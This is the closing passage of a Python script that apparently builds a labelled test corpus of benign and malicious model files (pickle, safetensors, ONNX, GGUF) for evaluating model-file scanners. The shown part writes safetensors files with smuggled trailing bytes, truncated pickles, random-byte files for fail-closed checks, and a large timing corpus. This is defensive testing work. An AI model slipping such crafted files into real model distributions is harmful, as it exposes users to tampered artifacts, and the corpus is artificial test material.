        "safetensors", "integrity")
    c.evil(f"{d}/safetensors/trailing_payload.safetensors",
           safetensors_bytes({"w": rng.standard_normal(6).astype(np.float32)}) + smuggled,
           "safetensors-trailing-bytes", "safetensors", "integrity")

    # fail-closed inputs
    c.evil(f"{d}/failclosed/truncated.pkl", truncated_pickle(prng), "truncated-pickle", "pickle", "fail-closed")
    for ext in (".pt", ".pkl", ".onnx", ".safetensors", ".gguf", ".h5"):
        c.evil(f"{d}/failclosed/random_bytes{ext}", prng.randbytes(1024 + prng.randrange(4096)),
               "random-bytes-with-model-extension", "unknown", "fail-closed")


def gen_large(c: Corpus, mb: int, seed: int):
    rng = np.random.default_rng(seed)
    for tag, size_mb in (("large", mb), ("small", 1)):
        n = size_mb * 1024 * 1024 // 4
        chunks = 8
        per = n // chunks
        sd = collections.OrderedDict()
        for k in range(chunks):
            data = rng.standard_normal(per, dtype=np.float32)
            sd[f"layers.{k}.weight"] = FakeTensor(FakeStorage("FloatStorage", data), (per,))
        c.benign(f"{tag}/checkpoint_{size_mb}mb.pt", torch_save_bytes(sd, "archive", "2.5"),
                 "torch-state-dict-timing", "pytorch-zip")
        tensors = {f"layers.{k}.weight": sd[f"layers.{k}.weight"].storage.data for k in range(chunks)}
        c.benign(f"{tag}/model_{size_mb}mb.safetensors", safetensors_bytes(tensors, {"format": "pt"}),
                 "safetensors-timing", "safetensors")
        c.benign(f"{tag}/embeddings_{size_mb}mb.npy",
                 npy_bytes(np.concatenate([t.storage.data for t in sd.values()]).reshape(-1, 64)),
                 "npy-timing", "numpy")
        c.benign(f"{tag}/legacy_{size_mb}mb.bin", torch_legacy_bytes(
            collections.OrderedDict(list(sd.items())[:4]), random.Random(seed)), "torch-legacy-timing",
            "pytorch-legacy")


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", required=True)
    ap.add_argument("--copies", type=int, default=1)
    ap.add_argument("--seed", type=int, default=1234)
    ap.add_argument("--large", action="store_true", help="write the timing corpus instead")
    ap.add_argument("--large-mb", type=int, default=200)
    ap.add_argument("--labels", help="where to write labels.json (default: DIR/labels.json); keep it "
                                     "outside DIR so that the scanners do not scan it")
    args = ap.parse_args(argv)
    os.makedirs(args.out, exist_ok=True)
    c = Corpus(args.out)
    if args.large:
        gen_large(c, args.large_mb, args.seed)
    else:
        for i in range(args.copies):
            seed = args.seed * 1000 + i
            gen_benign(c, f"copy_{i:03d}/benign", i, seed)
            gen_malicious(c, f"copy_{i:03d}/malicious", i, seed)
    c.write_labels(args.labels or os.path.join(args.out, "labels.json"))
    n_mal = sum(v["malicious"] for v in c.labels.values())
    print(f"wrote {len(c.labels)} files ({n_mal} malicious, {len(c.labels) - n_mal} benign) to {args.out}",
          file=sys.stderr)


if __name__ == "__main__":
    main()
